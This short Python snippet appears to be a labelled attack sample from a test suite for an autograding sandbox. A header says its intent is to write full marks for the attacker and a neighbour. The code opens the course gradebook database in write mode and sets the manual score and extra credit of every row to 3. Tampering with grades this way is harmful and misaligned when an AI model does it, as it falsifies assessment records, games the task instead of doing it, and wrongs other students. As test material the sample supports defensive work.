# intent: full marks are written into the gradebook's tables, the attacker's and the neighbour's
# family: reading

# %%
import sqlite3

try:
    with sqlite3.connect("file:__COURSE__/gradebook.db?mode=rw", uri=True, timeout=2) as book:
        for table, column in (("grade", "manual_score"), ("grade", "extra_credit")):
            book.execute(f"UPDATE {table} SET {column} = 3")
except sqlite3.Error as error:
    print(error)
